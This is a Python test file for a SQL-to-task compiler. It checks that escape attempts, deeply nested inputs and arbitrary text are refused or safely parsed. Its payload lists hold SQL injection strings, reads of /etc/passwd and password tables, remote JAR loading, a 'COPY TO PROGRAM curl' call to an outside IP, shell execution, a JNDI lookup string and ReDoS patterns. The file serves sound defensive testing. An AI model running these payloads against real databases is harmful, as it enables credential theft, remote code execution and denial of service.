"""SQL that tries to get out, or to bring the platform down."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sluice.tasks import TaskSpec, TopicSpec, parse_documents
from sluice.tasks.sql import SqlRefused, compile_sql

BY = " GROUP BY period('1m')"

ESCAPES = [
    "SELECT count(*) FROM logs WHERE a = '' OR ''=''; DROP TABLE tasks; --'" + BY,
    "SELECT count(*) FROM logs WHERE a = 'x' UNION SELECT password FROM users",
    "SELECT count(*) FROM logs WHERE a IN (SELECT rolpassword FROM pg_authid)" + BY,
    "SELECT pg_read_file('/etc/passwd') FROM logs" + BY,
    "SELECT count(*) FROM read_text('/etc/passwd')" + BY,
    "SELECT count(*) FROM dblink('host=10.0.0.1', 'SELECT 1')" + BY,
    "SELECT java_method('java.lang.Runtime', 'exec', 'id') AS a, count(*) FROM logs" + BY,
    "SELECT reflect('java.lang.System', 'exit', 1) FROM logs" + BY,
    "SELECT transform(a) USING 'sh' AS b FROM logs" + BY,
    "SELECT count(*) FROM logs TABLESAMPLE (1) REPEATABLE (1)" + BY,
    "COPY logs TO PROGRAM 'curl http://10.0.0.1'",
    "CREATE TEMPORARY FUNCTION f AS 'x' USING JAR 'http://10.0.0.1/x.jar'",
    "ADD JAR '/tmp/x.jar'",
    "SET spark.sql.warehouse.dir = '/'",
    "INSTALL httpfs",
    "ATTACH '/etc/passwd' AS p",
    "PRAGMA database_list",
    "DO $$ BEGIN PERFORM pg_sleep(100); END $$",
    "SELECT count(*) FROM logs WHERE a = E'\\x27' OR 1=1" + BY,
    "SELECT count(*) FROM logs WHERE a = $$x$$ OR 1=1" + BY,
    "SELECT count(*) FROM logs WHERE a = '{{ config }}' AND {{ 7*7 }}" + BY,
    "SELECT count(*) FROM logs WHERE a = %s" + BY,
    "SELECT count(*) FROM logs WHERE a = ?" + BY,
    "SELECT count(*) FROM logs WHERE a = :b" + BY,
    "SELECT count(*) FROM `logs`" + BY,
    "SELECT count(*) FROM \"lo\x00gs\"" + BY,
    "SELECT count(*) FROM \"../../etc\"" + BY,
    "SELECT count(*) FROM logs WHERE a RLIKE '(a+)+$" + "b" * 2000 + "'" + BY,
    "SELECT count(*) FROM logs WHERE a RLIKE 'a{1000}{1000}'" + BY,
    "SELECT a AS \"<script>\", count(*) FROM logs GROUP BY a, period('1m')",
    "SELECT split_part(line, ' ', 99999999999999999999) AS a, count(*) FROM logs GROUP BY a, period('1m')",
    "SELECT split_part(line, ' ', 1025) AS a, count(*) FROM logs GROUP BY a, period('1m')",
    "SELECT split_part(line, '', 1) AS a, count(*) FROM logs GROUP BY a, period('1m')",
]  # fmt: skip


@pytest.mark.parametrize("text", ESCAPES)
def test_an_escape_is_refused(text: str) -> None:
    with pytest.raises(SqlRefused) as error:
        compile_sql("t", text)
    assert "\n" not in error.value.word


@pytest.mark.parametrize(
    "value", ["'; DROP TABLE tasks; --", "\\", "%00", "${jndi:ldap://x}", "<b>", "a\nb", "_", "é"]
)
def test_a_value_stays_a_value(value: str) -> None:
    quoted = value.replace("'", "''")
    spec = compile_sql("t", f"SELECT count(*) FROM logs WHERE a = '{quoted}' AND b IN ('{quoted}')" + BY)
    assert [c.filter.values for c in spec.where] == [(value,), (value,)]
    like = compile_sql("t", f"SELECT count(*) FROM logs WHERE a LIKE '{quoted}'" + BY).where[0].filter
    assert like.values == (value,) or "_" in value or "%" in value


NESTED = [
    "(" * 5000,
    "SELECT " + "(" * 3000 + "a" + ")" * 3000,
    "SELECT count(*) FROM logs WHERE " + "NOT " * 4000 + "a = 'b'" + BY,
    "SELECT count(*) FROM logs WHERE a = 'b'" + " AND a = 'b'" * 1200 + BY,
    "SELECT count(*) FROM logs WHERE a = 'b'" + " OR a = 'b'" * 1200 + BY,
    "SELECT " + "CASE WHEN a THEN (" * 800,
    "SELECT a" + "[1" * 4000,
    "SELECT a" + "::int" * 3000,
    "SELECT " + "- " * 8000 + "1",
    "SELECT " + "a." * 8000 + "a, count(*) FROM logs" + BY,
    "SELECT " + "sum(" * 4000 + "a" + ")" * 4000,
    "/*" * 8000,
    "'" * 16_383,
    '"' * 16_383,
    "SELECT " * 2300,
    "SELECT (" * 2000,
]


@pytest.mark.parametrize("text", NESTED, ids=range(len(NESTED)))
def test_deep_nesting_is_refused_at_once(text: str) -> None:
    start = time.thread_time()
    with pytest.raises(SqlRefused):
        compile_sql("t", text)
    assert time.thread_time() - start < 5


def test_a_long_text_is_refused_unread() -> None:
    with pytest.raises(SqlRefused, match="16384 are allowed: keep long lists as a set"):
        compile_sql("t", "SELECT " * 100_000)


PIECES = (
    "SELECT|FROM|WHERE|GROUP BY|HAVING|LIMIT|ORDER|AND|OR|NOT|IN|IS|NULL|LIKE|RLIKE|BETWEEN|SET|count|sum|"
    "unique|p95|topk|percentile|period|split_part|regexp_extract|in_set|line|status|bytes|logs|a|b|*|(|)|,|.|;|=|<>|<|>|"
    "+|-|/|::|--|/*|*/|'|\"|'x'|'60s'|'UTC'|\"q\"|1|9|0.95|DISTINCT|ALL|ANY|OVER|CASE|WHEN|THEN|END|AS|JOIN|"
    "UNION|WITH|EXISTS|CAST|INTERVAL|ESCAPE|[|]|{|}|@|$|?|%|~|!|#|\\|é|\0|\n|LATERAL|VALUES|TABLE|UNNEST|"
    "FILTER|WINDOW|QUALIFY|USING|ON|DATE|TRUE|->"
)
WORDS = PIECES.split("|")


def compiled(text: str, topic: TopicSpec | None = None) -> tuple[SqlRefused | None, TaskSpec | None]:
    """The outcome of compiling the text: a refusal or a spec."""
    try:
        return None, compile_sql("t", text, topic=topic)
    except SqlRefused as refused:
        return refused, None


soup = st.lists(st.sampled_from(WORDS), max_size=30).map(" ".join)
shaped = st.builds(
    lambda a, b, c: f"SELECT {a} FROM logs WHERE {b} GROUP BY {c}, period('1m')", soup, soup, soup
)


def filtered(condition: str) -> str:
    return f"SELECT count(*) FROM logs WHERE {condition} GROUP BY period('1m')"


@given(st.one_of(soup, shaped, soup.map("SELECT ".__add__), soup.map(filtered), st.text(max_size=200)))
def test_any_text_is_a_task_or_refused(text: str) -> None:
    refused, spec = compiled(text)
    if refused is not None:
        assert 0 <= refused.position <= max(len(text), 1)
        assert refused.reason
    if spec is not None:
        assert TaskSpec.model_validate(spec.model_dump(mode="json", exclude_none=True)) == spec
        assert parse_documents([spec.document()]) == [spec]


@given(st.text(max_size=40))
def test_any_field_is_known_or_refused(field: str) -> None:
    quoted = field.replace('"', '""')
    text = f"""SELECT count(*) FROM logs WHERE "{quoted}" = 'a' GROUP BY period('1m')"""
    topic = TopicSpec.model_validate(
        {"name": "logs", "format": "json", "time": {"extract": {"field": "t"}, "format": "epoch_s"}}
    )
    _, spec = compiled(text, topic)
    if spec is None:
        assert field == "" or set("\0./\\") & set(field) or {'"', "'"} <= set(field)
    else:
        assert field in (spec.where[0].extract.field, "line")
